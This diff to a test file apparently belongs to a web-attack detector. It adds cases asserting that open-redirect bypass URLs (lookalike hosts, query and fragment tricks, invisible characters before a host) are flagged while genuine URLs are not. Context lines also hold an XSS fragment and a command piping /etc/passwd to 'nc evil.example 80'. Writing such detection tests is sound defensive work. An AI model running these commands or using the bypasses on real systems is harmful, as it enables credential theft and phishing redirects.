@@ -491,3 +491,8 @@ t.test('code and Markdown: block parameters, $0, an object\'s eval, comment line
   t.same(q('<img src="//evil.example/?'), ['xss'], 'dangling markup outside Markdown')
   t.ok(json({ body: '# Notes\n\nx; cat /etc/passwd | nc evil.example 80\n\n```sh\nls\n```' }).includes('rce'), 'what precedes a block\'s opening fence is judged')
 })
+
+t.test('redirects: another host naming the request\'s own elsewhere, invisible characters before a host', async (t) => {
+  for (const p of ['https://shop.example.com.evil.example.net', 'https://shop.example.com;.evil.example.net', 'https://shop.example.comevil.example.net', 'https://evil.example.net/shop.example.com', 'https://evil.example.net?shop.example.com', 'https://evil.example.net#shop.example.com', 'https://sshop.example.com', '\u200bevil.example.net', '\u00adevil.example.net']) t.ok(q(p, 'next').includes('open_redirect'), JSON.stringify(p))
+  for (const p of ['https://shop.example.com/account', 'https://www.shop.example.com/cart', 'https://accounts.idp.example/authorize?client_id=1&redirect_uri=https://shop.example.com/cb', 'https://partner.example.org/welcome', '/account']) t.same(q(p, 'next'), [], p)
+})
